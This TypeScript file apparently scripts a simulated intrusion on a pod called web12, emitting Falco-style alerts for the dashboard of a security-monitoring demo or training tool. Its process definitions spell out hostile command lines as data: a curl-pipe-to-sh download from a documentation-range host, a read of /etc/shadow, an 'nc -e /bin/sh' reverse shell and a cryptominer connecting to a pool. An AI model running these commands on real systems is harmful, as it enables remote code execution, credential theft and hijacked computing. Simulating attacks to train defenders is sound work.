import { type Pod, podOn } from '../cluster.ts';
import { dropEvent, type Process, processEvent } from '../falco-events.ts';
import { beacon, loadBeacon } from '../salt-events.ts';
import type { Act, Stage, Telling } from '../stage.ts';

const commandServer = '203.0.113.7';
const minerPool = '198.51.100.23';
const node = 'web12';

/** A web shell becomes a shell in a container, calls out, and starts to mine: as far as the targets still let it. */
export const attack: Act = {
	caption: 'an attack on web12 · e next error · < > severity · v views · T time',
	*play(stage) {
		const pod = podOn(stage.cluster, 'payments', node);
		if (!pod) return;
		yield* breakIn(stage, pod);
		yield* callOut(stage, pod);
		yield* settle(stage, pod);
	},
};

function* breakIn(stage: Stage, pod: Pod): Telling {
	runs(stage, pod, webShell, {
		rule: 'Web Server Spawned Shell',
		priority: 'Critical',
		text: 'Web server spawned shell | web_server=nginx',
		tags: ['T1505.003', 'container', 'mitre_persistence', 'process'],
	});
	yield 1400;
	runs(stage, pod, reader, {
		rule: 'Read sensitive file untrusted',
		priority: 'Warning',
		text: 'Sensitive file opened for reading by non-trusted program | file=/etc/shadow',
		tags: ['T1555', 'container', 'filesystem', 'mitre_credential_access'],
		fields: { 'evt.type': 'openat', 'fd.name': '/etc/shadow' },
	});
	yield 1100;
	runs(stage, pod, shell, {
		rule: 'Terminal shell in container',
		priority: 'Critical',
		text: 'A shell was spawned in a container with an attached terminal',
		tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'],
	});
	yield 160;
}

function* callOut(stage: Stage, pod: Pod): Telling {
	connects(stage, pod, shell, commandServer, 4444);
	yield 900;
	for (let times = 0; times < 4; times++) {
		runs(stage, pod, netcat, {
			rule: 'Launch Suspicious Network Tool in Container',
			priority: 'Warning',
			text: 'Network tool launched in container',
			tags: ['T1595', 'container', 'mitre_execution', 'network', 'process'],
		});
		yield 450;
		connects(stage, pod, netcat, commandServer, 4444);
		yield 350;
	}
	beacon(
		stage,
		stage.hosts.web12,
		'inotify',
		{ path: '/etc/passwd', change: 'IN_MODIFY' },
		'/etc/passwd',
	);
	yield 1200;
}

function* settle(stage: Stage, pod: Pod): Telling {
	stage.falco(dropEvent(node, 214_880, 2104));
	yield 600;
	runs(stage, pod, miner, {
		rule: 'Drop and execute new binary in container',
		priority: 'Critical',
		text: 'Executing binary not part of base image | proc_exe=/tmp/.x/kworkerds',
		tags: ['PCI_DSS_11.5.1', 'TA0003', 'container', 'mitre_persistence', 'process'],
		fields: { 'proc.exe_ino.ctime_duration_proc_start': 18_446_744_073_670_260_079n },
	});
	for (let times = 0; times < 5; times++) {
		yield 800;
		connects(stage, pod, miner, minerPool, 3333);
		loadBeacon(stage, stage.hosts.web12);
	}
	yield 2500;
}

type Finding = Parameters<typeof processEvent>[2];

/** Something runs in the pod, as long as the pod is there. */
function runs(stage: Stage, pod: Pod, process: Process, finding: Finding): void {
	if (stage.cluster.pods.includes(pod)) stage.falco(processEvent({ node, pod }, process, finding));
}

/** The pod reaches an address outside: neither where it is isolated nor where its host is locked down. */
function connects(stage: Stage, pod: Pod, process: Process, ip: string, port: number): void {
	if (pod.isIsolated || stage.hosts.web12.isLocked) return;
	const local = `${pod.address}:${stage.chance.whole(40_000, 60_000)}`;
	runs(stage, pod, process, {
		rule: 'Outbound Connection to C2 Servers',
		priority: 'Critical',
		text: `Outbound connection to C2 server | ip=${ip} connection=${local}->${ip}:${port}`,
		tags: ['T1071', 'container', 'mitre_command_and_control', 'network'],
		fields: {
			'evt.type': 'connect',
			'fd.name': `${local}->${ip}:${port}`,
			'fd.rip': ip,
			'fd.rport': port,
			'fd.sip': ip,
		},
	});
}

const asWebServer = { user: 'www-data', uid: 33 };
const asRoot = { user: 'root', uid: 0 };
const webShell: Process = {
	...asWebServer,
	name: 'sh',
	line: `sh -c id; curl -s http://${commandServer}/x.sh | sh`,
	parent: 'nginx',
};
const reader: Process = { ...asRoot, name: 'cat', line: 'cat /etc/shadow', parent: 'sh' };
const shell: Process = { ...asRoot, name: 'bash', line: 'bash -i', parent: 'runc' };
const netcat: Process = {
	...asRoot,
	name: 'nc',
	line: `nc -e /bin/sh ${commandServer} 4444`,
	parent: 'bash',
};
const miner: Process = {
	...asRoot,
	name: 'kworkerds',
	line: `kworkerds -o stratum+tcp://${minerPool}:3333`,
	parent: 'bash',
};
